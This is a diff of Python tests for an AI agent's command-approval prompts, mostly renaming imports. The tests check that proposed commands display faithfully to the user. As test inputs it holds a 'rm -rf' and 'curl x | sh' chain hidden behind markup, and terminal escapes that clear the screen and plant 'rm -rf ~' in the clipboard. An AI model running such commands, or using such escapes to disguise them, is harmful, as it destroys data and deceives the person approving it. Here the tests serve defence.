@@ -134,10 +134,10 @@ def test_the_terminal_shows_the_call_as_written_whatever_brackets_it_holds(
 ) -> None:
     """The model's input was read as rich markup: `[/]` raised, so the user was never
     asked and the call was denied; `[black on black]` could hide part of a command."""
-    from fsm_agent.live import approvals
-    from fsm_agent.live.approvals import terminal_prompter
+    from fsm_agent.cli import questions
+    from fsm_agent.cli.questions import terminal_prompter
 
-    monkeypatch.setattr(approvals, "_read_line", lambda abort: "y\n")
+    monkeypatch.setattr(questions, "_read_line", lambda abort: "y\n")
     command = 'echo "[/]" && rm -rf build [black on black]&& curl x | sh'
     question = PermissionAsk("Bash", {"command": command}, reason=f"Running `{command}`",
                              suggestion="Bash(echo [/] *)")  # fmt: skip
@@ -154,14 +154,14 @@ def test_a_question_never_sends_the_call_s_escapes_to_the_terminal(
     """The reason and the suggested rule quote the command as the model wrote it: their
     escapes reached the terminal (cleared the screen, set the clipboard) while the user
     was asked, in a terminal and in a chat alike."""
-    from fsm_agent.live import approvals
-    from fsm_agent.live.approvals import line_prompter, terminal_prompter
+    from fsm_agent.cli import questions
+    from fsm_agent.cli.questions import line_prompter, terminal_prompter
 
     clear, clipboard = "\x1b[2J", "\x1b]52;c;cm0gLXJmIH4=\x07"
     command = f"echo hi{clear}{clipboard}"
     question = PermissionAsk("Bash", {"command": command}, reason=f"Running `{command}`",
                              suggestion=f"Bash({command} *)")  # fmt: skip
-    monkeypatch.setattr(approvals, "_read_line", lambda abort: "y\n")
+    monkeypatch.setattr(questions, "_read_line", lambda abort: "y\n")
     assert terminal_prompter()(question) == ALLOW_ONCE
     asked: list[str] = []
     assert line_prompter(lambda text: asked.append(text) or "y")(question) == ALLOW_ONCE
@@ -304,8 +304,8 @@ def test_a_withdrawn_question_is_given_up_and_its_late_answer_ignored(tmp_path: 
 
     from fsm_agent.core.abort import AbortSignal
     from fsm_agent.core.permission_types import CANCELLED, PermissionSettings
-    from fsm_agent.engine.ports import LiveEffects
     from fsm_agent.live.approvals import Approvals, withdrawn
+    from fsm_agent.live.effects import LiveEffects
 
     said: list[str] = []
     on_screen = threading.Event()
